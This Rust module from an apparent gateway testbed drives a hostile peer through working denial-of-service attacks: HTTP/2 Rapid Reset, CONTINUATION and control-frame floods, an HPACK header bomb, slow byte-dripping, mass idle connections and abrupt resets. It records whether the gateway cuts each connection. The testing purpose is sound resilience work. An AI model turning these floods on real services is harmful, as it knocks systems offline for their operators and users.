//! What a hostile peer does on one connection, and how that ended.
//!
//! 1. An attack ends by itself: what is not cut within `PATIENCE` is told as such.
//! 2. It judges nothing; it says what it saw in a few words.

use std::time::Duration;

use gateway_testbed::node::{End, EndKind, Target};
use gateway_testbed::raw::{
    END_HEADERS, PREFACE, RawCall, RawConnection, call_headers, call_on, calls_reset, frame_type,
    goaway_code, header_block, http2_frame, http2_start, received_frames, session_path,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout};

use crate::arguments::Attack;

/// How long a peer goes on that nobody cuts: beyond every time-out of a gateway, 30 s for half a frame.
const PATIENCE: Duration = Duration::from_secs(40);
const DRIP: Duration = Duration::from_millis(200);
const IDLE_CONNECTIONS: usize = 2000;
const FLOOD_BYTES: usize = 64 << 20;
/// Streams that a connection may have.
const STREAMS: u32 = 16;

/// One attack from its begin to its end; `turn` counts those of this peer.
pub(super) async fn attack(attack: Attack, target: &Target, turn: usize) -> String {
    let ended = match attack {
        Attack::RapidReset => rapid_reset(target).await,
        Attack::Continuation => continuation(target).await,
        Attack::Settings => flood(target, &[], &http2_frame(frame_type::SETTINGS, 0, 0, &[])).await,
        Attack::Ping => flood(target, &[], &http2_frame(frame_type::PING, 0, 0, b"12345678")).await,
        Attack::WindowUpdate => {
            flood(target, &call_on(1), &http2_frame(frame_type::WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1])).await
        }
        Attack::HeaderBomb => header_bomb(target).await,
        Attack::EmptyData => flood(target, &call_on(1), &http2_frame(frame_type::DATA, 0, 1, b"")).await,
        Attack::SilentTcp => drip_tcp(target, &[]).await,
        Attack::DripTls => drip_tcp(target, &[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await,
        Attack::DripPreface => drip(target, &[], PREFACE).await,
        Attack::DripHeaders => drip(target, &http2_start(), &call_on(1)).await,
        Attack::DripFrame => drip(target, &[http2_start(), call_on(1)].concat(), &drip_frame()).await,
        Attack::HalfHellos => half_hellos(target).await,
        Attack::IdleTcp => idle(target).await,
        Attack::ResetAnywhere => reset(target, turn).await,
        Attack::Garbage => garbage(target, turn).await,
        Attack::Unread => unread(target).await,
    };
    ended.unwrap_or_else(|end| how(&end))
}

type Ended = Result<String, End>;

/// An end in a few words.
pub(super) fn how(end: &End) -> String {
    match &end.kind {
        EndKind::Status(code) => format!("status {code}"),
        EndKind::TlsAlert(alert) => format!("TLS alert {alert}"),
        EndKind::Transport | EndKind::GatewaySilent | EndKind::Asked => "cut".to_owned(),
    }
}

fn drip_frame() -> Vec<u8> {
    let mut frames = http2_frame(frame_type::DATA, 0, 1, &[0, 0, 0, 1, 0]);
    for _ in 0..256 {
        frames.extend(http2_frame(frame_type::DATA, 0, 1, &[10]));
    }
    frames
}

/// Sends `chunk` until the connection ends.
async fn pour(mut connection: RawConnection, chunk: &[u8]) -> Ended {
    let mut sent = 0;
    let pouring = async {
        while sent < FLOOD_BYTES && connection.write(chunk).await.is_ok() {
            sent += chunk.len();
        }
    };
    let cut = timeout(PATIENCE, pouring).await.is_ok() && sent < FLOOD_BYTES;
    Ok(if cut { told(&mut connection).await } else { "not cut".to_owned() })
}

/// What the gateway's last words were.
async fn told(connection: &mut RawConnection) -> String {
    let (bytes, end) = connection.read_to_end(PATIENCE).await;
    match (goaway_code(&received_frames(&bytes)), end) {
        (Some(code), Some(_)) => format!("GOAWAY {code}"),
        (None, Some(_)) => "cut".to_owned(),
        (_, None) => "not cut".to_owned(),
    }
}

async fn flood(target: &Target, opening: &[u8], frame: &[u8]) -> Ended {
    let mut connection = RawConnection::open(target).await?;
    // What breaks here shows in the pouring.
    let _ = connection.write(&[&http2_start()[..], opening].concat()).await;
    pour(connection, &frame.repeat(200)).await
}

async fn rapid_reset(target: &Target) -> Ended {
    let mut connection = RawConnection::open(target).await?;
    let _ = connection.write(&http2_start()).await;
    let pouring = async {
        for turn in 0..10_000u32 {
            if connection.write(&calls_reset(turn * 50..turn * 50 + 50)).await.is_err() {
                return true;
            }
        }
        false
    };
    match timeout(PATIENCE, pouring).await {
        Ok(true) => Ok(told(&mut connection).await),
        _ => Ok("not cut".to_owned()),
    }
}

async fn continuation(target: &Target) -> Ended {
    let opening = http2_frame(frame_type::HEADERS, 0, 1, &call_headers(session_path()));
    flood(
        target,
        &opening,
        &http2_frame(frame_type::CONTINUATION, 0, 1, &header_block(&[("x-more", "and more")])),
    )
    .await
}

/// Sixteen thousand times one entry of HPACK's static table, in one frame, on one stream after the other.
async fn header_bomb(target: &Target) -> Ended {
    let mut connection = RawConnection::open(target).await?;
    let _ = connection.write(&http2_start()).await;
    let block = [call_headers(session_path()), vec![0x90; 15 << 10]].concat();
    let pouring = async {
        for stream in 0..2000 {
            let frame = http2_frame(frame_type::HEADERS, END_HEADERS, 2 * stream + 1, &block);
            if connection.write(&frame).await.is_err() {
                return true;
            }
        }
        false
    };
    match timeout(PATIENCE, pouring).await {
        Ok(true) => Ok(told(&mut connection).await),
        _ => Ok("not cut".to_owned()),
    }
}

/// Says `begin` byte by byte, then nonsense, until the socket is closed.
async fn drip_tcp(target: &Target, begin: &[u8]) -> Ended {
    let Ok(mut tcp) = TcpStream::connect(target.address).await else { return Ok("not taken".to_owned()) };
    let since = Instant::now();
    let mut bytes = begin.iter().copied().chain(std::iter::repeat(7));
    let mut sink = [0u8; 256];
    while since.elapsed() < PATIENCE {
        if !begin.is_empty()
            && let Some(byte) = bytes.next()
            && tcp.write_all(&[byte]).await.is_err()
        {
            return Ok("cut".to_owned());
        }
        match timeout(DRIP, tcp.read(&mut sink)).await {
            Err(_) => {}
            Ok(Ok(0) | Err(_)) => return Ok("cut".to_owned()),
            Ok(Ok(_)) => {}
        }
    }
    Ok("not cut".to_owned())
}

async fn drip(target: &Target, opening: &[u8], bytes: &[u8]) -> Ended {
    let mut connection = RawConnection::open(target).await?;
    let _ = connection.write(opening).await;
    let since = Instant::now();
    for byte in bytes {
        if connection.write(&[*byte]).await.is_err() || connection.read_to_end(DRIP).await.1.is_some() {
            return Ok("cut".to_owned());
        }
        if since.elapsed() > PATIENCE {
            break;
        }
    }
    Ok(told(&mut connection).await)
}

async fn half_hellos(target: &Target) -> Ended {
    let mut connection = RawConnection::open(target).await?;
    let mut bytes = http2_start();
    for index in 0..STREAMS {
        let stream = 2 * index + 1;
        bytes.extend(call_on(stream));
        // 256 KiB are declared, and some come.
        bytes.extend(http2_frame(frame_type::DATA, 0, stream, &[0, 0, 4, 0, 0]));
        bytes.extend(http2_frame(frame_type::DATA, 0, stream, &[10; 2048]));
    }
    let _ = connection.write(&bytes).await;
    Ok(told(&mut connection).await)
}

async fn idle(target: &Target) -> Ended {
    let mut standing = Vec::with_capacity(IDLE_CONNECTIONS);
    for _ in 0..IDLE_CONNECTIONS {
        match TcpStream::connect(target.address).await {
            Ok(tcp) => standing.push(tcp),
            Err(_) => break,
        }
    }
    let count = standing.len();
    for mut tcp in standing {
        let mut sink = [0u8; 64];
        if timeout(PATIENCE, tcp.read(&mut sink)).await.is_err() {
            return Ok("not cut".to_owned());
        }
    }
    Ok(format!("{count} cut"))
}

/// A reset instead of a FIN.
fn abort(tcp: &TcpStream) {
    // Where it fails the peer ends with a FIN, which is one of the stages too.
    let _ = tcp.set_zero_linger();
}

async fn reset(target: &Target, turn: usize) -> Ended {
    if turn.is_multiple_of(6) {
        if let Ok(tcp) = TcpStream::connect(target.address).await {
            abort(&tcp);
        }
        return Ok("reset by us".to_owned());
    }
    if turn % 6 == 1 {
        if let Ok(mut tcp) = TcpStream::connect(target.address).await {
            let _ = tcp.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]).await;
            abort(&tcp);
        }
        return Ok("reset by us".to_owned());
    }
    let mut connection = RawConnection::open(target).await?;
    let opened = [http2_start(), call_on(1)].concat();
    let half = [&opened[..], &http2_frame(frame_type::DATA, 0, 1, &[0, 0, 0, 1, 0, 10])].concat();
    let said: &[u8] = match turn % 6 {
        2 => &[],
        3 => &PREFACE[..12],
        4 => &opened[..opened.len() - 20],
        _ => &half,
    };
    let _ = connection.write(said).await;
    abort(connection.tcp());
    Ok("reset by us".to_owned())
}

async fn garbage(target: &Target, turn: usize) -> Ended {
    let mut call = RawCall::session(target).await?;
    let mut frame = vec![0, 0, 0, 4, 0];
    frame.extend((0..1024usize).map(|at| (at.wrapping_mul(turn + 7) >> 2) as u8));
    call.send_bytes(frame);
    Ok(call.end(PATIENCE).await.map_or_else(|| "not cut".to_owned(), |end| how(&end)))
}

async fn unread(target: &Target) -> Ended {
    let mut call = RawCall::session(target).await?;
    call.send_bytes(gateway_testbed::raw::small_hello());
    // A frame that holds a heartbeat with a sequence.
    let beats = [0, 0, 0, 0, 4, 0x12, 2, 8, 1].repeat(1000);
    let since = Instant::now();
    while since.elapsed() < PATIENCE {
        if call.queued_bytes() < beats.len() {
            call.send_bytes(beats.clone());
        }
        if let Some(end) = call.send_only(DRIP).await {
            return Ok(how(&end));
        }
    }
    Ok("not cut".to_owned())
}

/// Gives up the processor for what others of this process do.
pub(super) async fn pause() {
    sleep(Duration::from_millis(5)).await;
}
